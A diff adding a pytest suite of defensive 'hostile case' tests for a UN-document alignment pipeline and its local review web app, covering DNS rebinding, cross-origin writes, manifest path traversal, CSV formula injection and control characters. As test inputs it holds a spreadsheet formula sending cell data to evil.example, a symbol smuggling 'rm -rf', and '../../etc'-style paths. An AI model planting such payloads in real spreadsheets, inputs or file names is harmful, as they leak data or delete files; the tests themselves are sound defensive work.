@@ -1,0 +1,387 @@
+"""Hostile cases (issue 10): each test here failed before its fix. Nothing lost, nobody in, no
+traceback. The slow ones (a real browser, big inputs) are in ``test_hostile_slow.py``."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from pipeline.align import corrections
+from pipeline.cli import main
+from pipeline.core.errors import InputError
+from pipeline.review.app import Project, create_app
+from tests.conftest import BUNDLED, ROOT, SHARED, need_shared
+
+DOC = "UNODC_CCPCJ_EG.4_2020_1"
+RESOLUTION = SHARED / "corpus" / "a_res_55_100"
+
+
+@pytest.fixture()
+def review(bundled_stages: Path, tmp_path: Path):
+    project = Project(
+        DOC,
+        bundled_stages / "extracted",
+        bundled_stages / "aligned",
+        bundled_stages / "tagged",
+        tmp_path / "corrections",
+    )
+    return project, create_app(project).test_client()
+
+
+def first_row_with(client, lang: str) -> dict:
+    data = client.get(f"/api/rows?langs={lang}").get_json()
+    return next(r for r in data["rows"] if r["en_ids"] and r["cells"][lang]["ids"])
+
+
+# --- 2. DNS rebinding and cross-site writes ---------------------------------------------------
+
+
+def test_a_foreign_host_can_neither_read_nor_write(review) -> None:
+    project, client = review
+    row = first_row_with(client, "fr")["row"]
+    assert client.get("/api/rows", headers={"Host": "evil.example"}).status_code == 403
+    assert client.get("/", headers={"Host": "evil.example:8765"}).status_code == 403
+    write = client.post(
+        "/api/action", json={"action": "confirm", "row": row, "langs": ["fr"]}, headers={"Host": "evil.example"}
+    )
+    assert write.status_code == 403 and "unknown host" in write.get_json()["error"]
+    assert not project.corrections_file.exists()
+    for host in ("localhost", "127.0.0.1:8765", "LOCALHOST:5000"):
+        assert client.get("/api/rows?langs=fr", headers={"Host": host}).status_code == 200
+
+
+def test_the_bound_port_and_host_are_the_only_ones_answered(bundled_stages: Path, tmp_path: Path) -> None:
+    stages = bundled_stages
+    project = Project(DOC, stages / "extracted", stages / "aligned", stages / "tagged", tmp_path)
+    client = create_app(project, "review.lan", 8765).test_client()
+    assert client.get("/api/rows", headers={"Host": "review.lan:8765"}).status_code == 200
+    assert client.get("/api/rows", headers={"Host": "127.0.0.1:8765"}).status_code == 200
+    assert client.get("/api/rows", headers={"Host": "127.0.0.1:9999"}).status_code == 403
+    assert client.get("/api/rows", headers={"Host": "review.lan.evil.example:8765"}).status_code == 403
+
+
+def test_writes_from_another_origin_are_refused(review) -> None:
+    project, client = review
+    row = first_row_with(client, "fr")["row"]
+    body = {"action": "confirm", "row": row, "langs": ["fr"]}
+    for headers in (
+        {"Origin": "http://evil.example"},
+        {"Origin": "null"},
+        {"Referer": "http://evil.example/attack.html"},
+        {"Origin": "https://localhost"},
+    ):
+        response = client.post("/api/action", json=body, headers=headers)
+        assert response.status_code == 403, headers
+    assert not project.corrections_file.exists()
+    own = client.post("/api/action", json=body, headers={"Origin": "http://localhost", "Referer": "http://localhost/"})
+    assert own.status_code == 200 and project.corrections_file.exists()
+
+
+# --- 5 and 8. Review API inputs that used to answer 500 or the wrong thing ---------------------
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        {"action": "confirm", "row": 1, "langs": [{}]},
+        {"action": "confirm", "row": 1, "langs": [["fr"]]},
+        {"action": "confirm", "row": True, "langs": ["fr"]},
+    ],
+)
+def test_malformed_action_is_a_400_not_a_500_nor_row_one(review, body) -> None:
+    project, client = review
+    response = client.post("/api/action", json=body)
+    assert response.status_code == 400 and response.get_json()["ok"] is False
+    assert not project.corrections_file.exists()
+
+
+def test_no_languages_is_refused_not_all_confirmed(review) -> None:
+    _, client = review
+    response = client.get("/api/rows?langs=,")
+    assert response.status_code == 400
+    assert "at least one" in response.get_json()["error"]
+
+
+def test_a_comment_is_shown_once(review) -> None:
+    _, client = review
+    row = first_row_with(client, "fr")
+    saved = client.post(
+        "/api/action", json={"action": "comment", "row": row["row"], "langs": ["fr"], "text": "check the term"}
+    )
+    assert saved.status_code == 200
+    shown = next(r for r in client.get("/api/rows?langs=fr").get_json()["rows"] if r["row"] == row["row"])
+    assert [c["text"] for c in shown["comments"]] == ["check the term"]
+
+
+def test_a_half_written_last_correction_is_skipped_and_the_rest_goes_on(review, caplog) -> None:
+    project, client = review
+    row = first_row_with(client, "fr")["row"]
+    assert client.post("/api/action", json={"action": "confirm", "row": row, "langs": ["fr"]}).status_code == 200
+    with open(project.corrections_file, "a", encoding="utf-8") as handle:
+        handle.write('{"lang": "fr", "action": "li')  # the append was killed here
+    assert client.get("/api/rows?langs=fr").status_code == 200
+    again = client.post("/api/action", json={"action": "no_counterpart", "row": row, "langs": ["fr"]})
+    assert again.status_code == 200
+    records = corrections.load(project.corrections_file)
+    assert [r.id for r in records] == list(range(1, len(records) + 1)) and len(records) >= 2
+    assert records[0].action == "confirm" and {r.action for r in records[1:]} == {"link"}
+    assert "line 2 is not a record, skipped" in caplog.text
+
+
+# --- 6. A stale correction must not cap a language's confidence --------------------------------
+
+
+def test_a_stale_correction_leaves_confidence_alone(bundled_stages: Path, review, tmp_path: Path) -> None:
+    project, client = review
+    row = first_row_with(client, "fr")
+    assert (
+        client.post("/api/action", json={"action": "no_counterpart", "row": row["row"], "langs": ["fr"]}).status_code
+        == 200
+    )
+    edited = tmp_path / "extracted"
+    shutil.copytree(bundled_stages / "extracted", edited)
+    path = edited / DOC / "fr.jsonl"
+    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
+    for record in records:
+        if record["para_id"] in row["cells"]["fr"]["ids"]:
+            record["text"] += " (révisé)"
+    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
+    out = tmp_path / "aligned"
+    args = ["align", str(edited), "--segmented", "", "--out", str(out), "--corrections", str(project.corrections)]
+    assert main(args) == 0
+    report = json.loads((out / DOC / "report.json").read_text(encoding="utf-8"))
+    assert report["pairs"]["fr"]["corrections_stale"] == 1
+    links = [json.loads(line) for line in (out / DOC / "en-fr.paragraphs.jsonl").read_text().splitlines()]
+    assert report["pairs"]["fr"]["mean_confidence"] > 0.5
+    assert sum(link["confidence"] > 0.05 for link in links) > 0.8 * len(links)
+
+
+# --- 1. Corpus mode never deletes outside a set's own folder ------------------------------------
+
+
+@pytest.mark.parametrize("symbol", ["..", " ", "A/../B", "./A", "A//1", "A/1/", "../../etc", "A\\B", "A/1;rm -rf"])
+def test_manifest_refuses_symbols_that_are_not_symbols(tmp_path: Path, symbol: str) -> None:
+    from pipeline.corpus.stage import load_manifest
+
+    manifest = tmp_path / "manifest.csv"
+    manifest.write_text(f'symbol,languages,source\n"{symbol}",en,{BUNDLED}\n', encoding="utf-8")
+    with pytest.raises(InputError, match=r"line 2: .* is not a UN document symbol"):
+        load_manifest(manifest)
+
+
+def test_two_rows_with_one_symbol_are_an_error(tmp_path: Path) -> None:
+    from pipeline.corpus.stage import load_manifest
+
+    manifest = tmp_path / "manifest.csv"
+    rows = [f"UNODC/CCPCJ/EG.4/2020/1,en,{BUNDLED}", f"UNODC_CCPCJ_EG.4_2020_1 ,fr,{BUNDLED}"]
+    manifest.write_text("symbol,languages,source\n" + "\n".join(rows) + "\n", encoding="utf-8")
+    with pytest.raises(InputError, match=r"line 3: .* is already the set of line 2"):
+        load_manifest(manifest)
+
+
+@pytest.mark.parametrize("symbol", ["..", " ", "."])
+def test_a_set_run_deletes_nothing_outside_its_folder(tmp_path: Path, symbol: str) -> None:
+    """Entries need not come from a manifest (scripts, other schedulers): the set's run checks
+    its folder itself before replacing it."""
+    from pipeline.corpus.stage import Entry, process_set
+
+    out = tmp_path / "out"
+    (out / "sets" / "OTHER_1").mkdir(parents=True)
+    (out / "sets" / "OTHER_1" / "done.json").write_text("{}", encoding="utf-8")
+    (out / "unrelated.txt").write_text("keep me", encoding="utf-8")
+    with pytest.raises(InputError, match="not a UN document symbol"):
+        process_set(Entry(symbol, ("en",), BUNDLED), out, {}, "key")
+    assert (out / "unrelated.txt").read_text(encoding="utf-8") == "keep me"
+    assert (out / "sets" / "OTHER_1" / "done.json").exists()
+
+
+def test_a_truncated_done_marker_means_run_again(tmp_path: Path, caplog) -> None:
+    from pipeline.corpus.stage import done_result
+
+    marker = tmp_path / "sets" / DOC / "done.json"
+    marker.parent.mkdir(parents=True)
+    marker.write_text('{"doc": "UNODC_CCPCJ_EG.4_2020_1", "status": "o', encoding="utf-8")
+    assert done_result(tmp_path, DOC, "key") is None
+    assert "unreadable" in caplog.text
+
+
+# --- 4. CSV formula injection ----------------------------------------------------------------
+
+ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture()
+def poisoned(bundled_stages: Path, tmp_path: Path) -> Path:
+    """The bundled stage outputs with the first English paragraph replaced by a formula and the
+    first French one starting with a minus sign."""
+    root = tmp_path / "stages"
+    for stage in ("aligned", "tagged"):
+        shutil.copytree(bundled_stages / stage / DOC, root / stage / DOC)
+    sixway = root / "aligned" / DOC / "sixway.jsonl"
+    rows = [json.loads(line) for line in sixway.read_text(encoding="utf-8").splitlines()]
+    first = next(r for r in rows if r["en_ids"] and r.get("fr_ids"))
+    first["en"], first["fr"] = ATTACK, "-1 pour cent@"
+    sixway.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
+    tagged = root / "tagged" / DOC / "en.jsonl"
+    paragraphs = [json.loads(line) for line in tagged.read_text(encoding="utf-8").splitlines()]
+    next(p for p in paragraphs if p["para_id"] == first["en_ids"][0])["text"] = ATTACK
+    tagged.write_text("".join(json.dumps(p, ensure_ascii=False) + "\n" for p in paragraphs), encoding="utf-8")
+    return root
+
+
+def _export(root: Path, out: Path, *extra: str) -> tuple[pd.DataFrame, pd.DataFrame]:
+    args = ["export", "--aligned", str(root / "aligned"), "--tagged", str(root / "tagged"), "--out", str(out)]
+    assert main([*args, "--segmented", "", *extra]) == 0
+    read = {"dtype": str, "keep_default_na": False}
+    return pd.read_csv(out / f"{DOC}.wide.csv", **read), pd.read_csv(out / f"{DOC}.long.csv", **read)
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(poisoned: Path, tmp_path: Path) -> None:
+    wide, long = _export(poisoned, tmp_path / "exports")
+    assert "'" + ATTACK in set(wide["en"]) and "'-1 pour cent@" in set(wide["fr"])
+    assert "'" + ATTACK in set(long["text"])
+    for frame in (wide, long):
+        cells = frame.to_numpy().ravel()
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert pd.to_numeric(wide["confidence"]).between(0, 1).all(), "numbers stay numbers"
+    tmx = (tmp_path / "exports" / f"{DOC}.tmx").read_text(encoding="utf-8")
+    assert "<seg>=HYPERLINK(" in tmx, "the TMX keeps the exact text"
+
+
+def test_raw_csv_and_the_parquet_store_keep_the_exact_text(poisoned: Path, tmp_path: Path) -> None:
+    from pipeline.corpus.stage import write_store
+
+    wide, long = _export(poisoned, tmp_path / "raw", "--raw-csv")
+    assert ATTACK in set(wide["en"]) and ATTACK in set(long["text"])
+    write_store(tmp_path / "store", DOC, poisoned)
+    store = pd.read_parquet(tmp_path / "store" / "paragraphs", filters=[("lang", "=", "en")])
+    assert ATTACK in set(store["text"])
+
+
+# --- 5. Control characters, empty tag summaries, unwritable outputs ----------------------------
+
+CONTROLS = ["\x01", "\x1b[31m", "\x7f", "\x85", "\x0b"]
+
+
+def test_control_characters_are_cleaned_at_extraction_and_counted(tmp_path: Path) -> None:
+    from pipeline.core.records import read_jsonl
+    from pipeline.export.stage import DocData, Filters, tmx_tree, write_tmx
+
+    need_shared()
+    folder = tmp_path / "raw" / "A_RES_55_100"
+    folder.mkdir(parents=True)
+    for lang in ("en", "fr"):
+        lines = (RESOLUTION / f"A_RES_55_100.{lang}.txt").read_text(encoding="utf-8").splitlines()[:12]
+        lines[1] = lines[1].replace(" ", " " + "".join(CONTROLS), 1)
+        lines[3] = "\x01" + lines[3]
+        (folder / f"{lang}.txt").write_text("\n\n".join(lines) + "\n", encoding="utf-8")
+    assert main(["extract", str(folder), "--out", str(tmp_path / "extracted")]) == 0
+    report = json.loads((tmp_path / "extracted" / "A_RES_55_100" / "report.json").read_text(encoding="utf-8"))
+    paragraphs = {}
+    for lang in ("en", "fr"):
+        assert report["languages"][lang]["removed"]["control characters"] == 6
+        paragraphs[lang] = list(read_jsonl(tmp_path / "extracted" / "A_RES_55_100" / f"{lang}.jsonl"))
+        text = "".join(p["text"] for p in paragraphs[lang])
+        assert not [c for c in text if ord(c) < 32 or 0x7F <= ord(c) <= 0x9F]
+        assert "[31m" in text, "only the control character goes, the printable rest stays"
+    rows = [
+        {"row": k, "en": en["text"], "fr": fr["text"], "tags": []}
+        for k, (en, fr) in enumerate(zip(paragraphs["en"], paragraphs["fr"]), 1)
+    ]
+    data = DocData("A_RES_55_100", "A/RES/55/100", rows, paragraphs)
+    write_tmx(tmx_tree([data], Filters(langs=("en", "fr")), "paragraph", {}, {}), tmp_path / "out.tmx")
+    assert (tmp_path / "out.tmx").read_text(encoding="utf-8").count("<tu ") == len(rows)
+
+
+def test_an_export_with_no_tags_at_all_still_draws_its_chart(tmp_path: Path) -> None:
+    from pipeline.export.stage import plot_summary, summary_frame
+
+    plot_summary(summary_frame([]), tmp_path / "tag_distribution.png")
+    assert (tmp_path / "tag_distribution.png").read_bytes()[:4] == b"\x89PNG"
+
+
+def test_an_unwritable_output_is_one_line_not_a_traceback(tmp_path: Path, capsys) -> None:
+    blocker = tmp_path / "a-file"
+    blocker.write_text("not a folder", encoding="utf-8")
+    code = main(["extract", str(BUNDLED / "zh.txt"), "--lang", "zh", "--out", str(blocker / "zh.jsonl")])
+    err = capsys.readouterr().err
+    assert code == 2 and len(err.strip().splitlines()) == 1 and str(blocker) in err
+    if os.geteuid() != 0:  # root writes through a read-only mode
+        locked = tmp_path / "locked"
+        locked.mkdir(mode=0o500)
+        assert main(["extract", str(BUNDLED / "zh.txt"), "--lang", "zh", "--out", str(locked / "zh.jsonl")]) == 2
+        assert len(capsys.readouterr().err.strip().splitlines()) == 1
+
+
+# --- 7. Wrong language ---------------------------------------------------------------------
+
+
+def test_a_french_pdf_extracted_as_chinese_warns(tmp_path: Path, caplog) -> None:
+    assert main(["extract", str(BUNDLED / "fr.pdf"), "--lang", "zh", "--out", str(tmp_path / "zh.jsonl")]) == 0
+    assert "text labelled 'zh' looks like 'fr'" in caplog.text
+    caplog.clear()
+    assert main(["extract", str(BUNDLED / "fr.pdf"), "--lang", "fr", "--out", str(tmp_path / "fr.jsonl")]) == 0
+    assert "looks like" not in caplog.text
+
+
+# --- 8. Small things -------------------------------------------------------------------------
+
+
+def test_a_missing_path_is_called_missing(tmp_path: Path, capsys) -> None:
+    assert main(["extract", str(tmp_path / "no-such.pdf")]) == 2
+    assert "no such file or folder" in capsys.readouterr().err
+
+
+def test_a_folder_with_no_document_sets_is_an_error(tmp_path: Path, capsys) -> None:
+    (tmp_path / "empty" / "sub").mkdir(parents=True)
+    (tmp_path / "empty" / "notes.md").write_text("nothing here", encoding="utf-8")
+    assert main(["extract", str(tmp_path / "empty"), "--out", str(tmp_path / "out")]) == 2
+    assert "no document sets here" in capsys.readouterr().err
+
+
+WRITER = """
+import sys, time
+sys.path.insert(0, sys.argv[2])
+from pipeline.core.atomic import atomic_path
+with atomic_path(sys.argv[1]) as tmp:
+    tmp.write_text("half", encoding="utf-8")
+    print("writing", flush=True)
+    time.sleep(60)
+"""
+
+
+def test_a_killed_write_leaves_no_temporary_file_for_long(tmp_path: Path) -> None:
+    """kill -9 runs no clean-up, so the killed writer's temporary file is still there; the next
+    write into that folder removes it (its process is gone), and never a live writer's."""
+    from pipeline.core.records import write_jsonl
+
+    target = tmp_path / "out" / "en.jsonl"
+    write_jsonl(target, [{"a": 1}])
+    writers = [
+        subprocess.Popen([sys.executable, "-c", WRITER, str(target), str(ROOT)], stdout=subprocess.PIPE, text=True)
+        for _ in range(2)
+    ]
+    try:
+        for writer in writers:
+            assert writer.stdout.readline().strip() == "writing"
+        writers[0].kill()
+        writers[0].wait()
+        assert len(list(target.parent.glob(".*.tmp"))) == 2
+        write_jsonl(target, [{"a": 2}])
+        left = list(target.parent.glob(".*.tmp"))
+        assert len(left) == 1 and f"-{writers[1].pid}." in left[0].name, "the live writer's file is kept"
+    finally:
+        writers[1].kill()
+        writers[1].wait()
+    time.sleep(0.1)
+    write_jsonl(target, [{"a": 3}])
+    assert sorted(p.name for p in target.parent.iterdir()) == ["en.jsonl"]
+    assert target.read_text(encoding="utf-8") == '{"a": 3}\n'
